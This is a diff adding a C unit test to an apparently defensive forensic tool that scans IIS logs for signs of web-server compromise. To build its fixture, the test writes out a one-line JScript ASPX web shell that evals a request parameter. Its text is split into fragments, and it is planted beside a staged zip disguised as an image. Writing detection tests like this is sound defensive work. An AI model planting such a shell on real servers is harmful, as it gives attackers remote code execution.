@@ -294,6 +294,38 @@ static void a_rule_without_literal_still_matches(void **state)
     end(&w);
 }
 
+/* What the files say is looked for in the logs: a page's name, a staged file under a harmless one, the key of a planted script. */
+static void files_teach_the_logs(void **state)
+{
+    static const uint8_t zip[] = "PK\x03\x04................................";
+    struct world w;
+
+    (void)state;
+    begin(&w);
+    struct str page = str_fmt(&w.a.a, "<%%@ Page Language=\"J%sript\"%%><%%ev%s(Request.Item[\"%s\"],\"un%se\");%%>", "Sc", "al", "Sesame77", "saf");
+    add(&w, "/case/C/inetpub/wwwroot/aspnet_client/odd.aspx", page);
+    struct os_mem_node *staged = os_mem_add(w.m, "/case/C/inetpub/wwwroot/aspnet_client/system_web/picture.bmp.zip", (struct str){ zip, sizeof zip - 1 });
+    CHECK(time_parse(STR("2021-03-03T06:59:00Z"), &staged->mtime_us));
+    add(&w, FRONT "u_ex210303.log",
+        text_of(&w, iis_head, "2021-03-03 07:02:11 192.0.2.10 GET /aspnet_client/system_web/picture.bmp.zip - 443 - 198.51.100.23 x - 200 0 0 214\r\n"
+                              "2021-03-03 07:03:11 192.0.2.10 GET /Aspnet_Client/ODD.aspx - 443 - 198.51.100.23 x - 200 0 0 214\r\n"
+                              "2021-03-03 07:04:11 192.0.2.10 GET /reports/other.aspx Sesame77=x 443 - 198.51.100.23 x - 200 0 0 214\r\n"
+                              "2021-03-03 07:05:11 192.0.2.10 GET /reports/other.aspx NotSesame77=x 443 - 192.0.2.9 x - 200 0 0 214\r\n"));
+    look(&w, 1);
+    int page_n = 0, loot_n = 0, key_n = 0;
+    for (size_t i = 0; i < w.found.hit_n; i++) {
+        const struct hit *h = &w.found.hit[i];
+        if (h->rule != RULE_LEARNT)
+            continue;
+        page_n += h->sign == SIGN_PAGE && str_eq(h->url, STR("/aspnet_client/odd.aspx"));
+        loot_n += h->sign == SIGN_LOOT;
+        key_n  += str_eq(h->key, STR("Sesame77")) && str_eq(h->url, STR("/reports/other.aspx")) && h->count == 1;
+    }
+    if (page_n != 1 || loot_n != 1 || key_n != 1)
+        fail_msg("pages %d, staged files %d, keys %d, facts %zu", page_n, loot_n, key_n, w.found.fact_n);
+    end(&w);
+}
+
 static void the_pivot_counts_and_finds(void **state)
 {
     struct world w;
@@ -371,7 +403,7 @@ int main(void)
         cmocka_unit_test(stages_of_forged_requests), cmocka_unit_test(forged_cookies_only), cmocka_unit_test(headers_change_mid_file),
         cmocka_unit_test(sides_of_iis), cmocka_unit_test(ecp_rows_and_sequences), cmocka_unit_test(encoded_words_are_read),
         cmocka_unit_test(coverage_knows_holes), cmocka_unit_test(threads_change_nothing), cmocka_unit_test(many_hits_in_one_file),
-        cmocka_unit_test(a_rule_without_literal_still_matches), cmocka_unit_test(the_pivot_counts_and_finds),
+        cmocka_unit_test(a_rule_without_literal_still_matches), cmocka_unit_test(files_teach_the_logs), cmocka_unit_test(the_pivot_counts_and_finds),
         cmocka_unit_test(damage_is_told), cmocka_unit_test(survives_a_failing_disk),
     };
     return cmocka_run_group_tests(t, NULL, NULL);
